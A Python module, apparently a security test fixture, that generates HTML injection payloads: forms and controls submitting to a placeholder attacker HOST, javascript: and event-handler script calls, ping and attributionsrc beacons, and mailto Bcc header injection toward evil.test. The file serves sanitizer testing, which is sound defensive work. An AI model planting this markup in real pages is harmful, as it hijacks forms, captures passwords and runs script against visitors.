"""Forms and controls: where a click, or nothing at all, sends the reader's words elsewhere."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, IMAGE

_BUTTONS = (
    "<button>x</button>",
    "<input type=submit>",
    "<input type=image src=x>",
    "<button type=submit formaction=@>x</button>",
    "<input type=submit formaction=@>",
    "<input type=image formaction=@ src=x>",
    "<button formtarget=_top formmethod=post>x</button>",
    "<textarea name=x>y</textarea><button>z</button>",
    "<select name=x><option>y</select><button>z</button>",
    "<input name=password type=password autocomplete=current-password><button>x</button>",
    "<input type=file name=x><button>z</button>",
    "<label>x<input type=submit></label>",
)
_ACTIONS = (f"action={HOST}", f"action=javascript:{CALL}", f"method=post target=_blank action={HOST}", "")
_ONES = (
    f"<button popovertarget=x popovertargetaction=show>y</button><p id=x popover onbeforetoggle={CALL}>z</p>",
    f"<button commandfor=x command=show-modal>y</button><dialog id=x ontoggle={CALL}>z</dialog>",
    f"<button command=--custom commandfor=main onclick={CALL}>x</button>",
    f"<button interestfor=x>y</button><p id=x popover oninterest={CALL}>z</p>",
    f"<p contenteditable oninput={CALL}>x</p>",
    f"<p accesskey=x onclick={CALL}>x</p>",
    f"<p tabindex=99999 onfocus={CALL}>x</p>",
    f"<p inert hidden=until-found onbeforematch={CALL}>x</p>",
    f"<p draggable=true ondragstart={CALL}>x</p>",
    f"<p dropzone=copy contextmenu=x onclick={CALL}>x</p>",
    f"<menu type=context id=x><menuitem onclick={CALL}>y</menuitem></menu>",
    f"<isindex action=javascript:{CALL} type=submit>",
    f"<isindex prompt='{IMAGE}'>",
    f"<keygen form=x formaction={HOST}>",
    f"<output onforminput={CALL}>x</output>",
    f"<label for=font_scale onclick={CALL}>x</label>",
    f"<fieldset disabled onclick={CALL}><legend>{IMAGE}</legend></fieldset>",
    f"<meter onclick={CALL} value=1>x</meter>",
    f"<progress onclick={CALL}>x</progress>",
    f"<input value='{IMAGE}' placeholder='{IMAGE}' aria-label='{IMAGE}' title='{IMAGE}'>",
    f"<input placeholder='\"><script>{CALL}</script>'>",
    f"<button title='{IMAGE}'>&lt;script&gt;{CALL}&lt;/script&gt;</button>",
    f"<input name=isindex onfocus={CALL}>",
    f"<input list=x><datalist id=x><option value='{IMAGE}'></datalist>",
    f"<dialog open><form method=dialog><button onclick={CALL}>x</button></form></dialog>",
    f"<search><form action={HOST} role=search><input name=q></form></search>",
    f"<a href={HOST} target=_blank rel=opener>x</a>",
    f"<a href={HOST} target=_top>x</a>",
    f"<a href={HOST} target='{HOST}'>x</a>",
    f"<a href=x ping={HOST}>x</a>",
    f"<a href=x download='{IMAGE}'>x</a>",
    f"<a href=x attributionsrc={HOST}>x</a>",
    f"<a href=x rel=preload referrerpolicy=unsafe-url onclick={CALL}>x</a>",
    f"<a href=x type=text/html charset=utf-7 onclick={CALL}>x</a>",
    f"<a href='mailto:a@example.org?subject=x%0d%0aBcc:b@evil.test' onclick={CALL}>x</a>",
    f"<a href='mailto:a@example.org\nBcc:b@evil.test' title='{IMAGE}'>x</a>",
    f"<a href='tel:*21*1#' onclick={CALL}>x</a>",
    f"<area href=javascript:{CALL} shape=default>",
    f"<map name=x><area href=javascript:{CALL} coords=0,0,99,99></map><img usemap=#x src=y width=99 height=99>",
)


def payloads() -> Iterator[str]:
    """Yield each button in four forms, apart from its form, and controls that act by themselves."""
    for number, button in enumerate(_BUTTONS):
        for action in _ACTIONS:
            made = button.replace("@", f"javascript:{CALL}" if number % 2 else HOST)
            yield f"<form {action}>{made}</form>"
            if action:
                yield f"<form id=f {action}></form>{made.replace('>', ' form=f>', 1)}"
    yield from _ONES
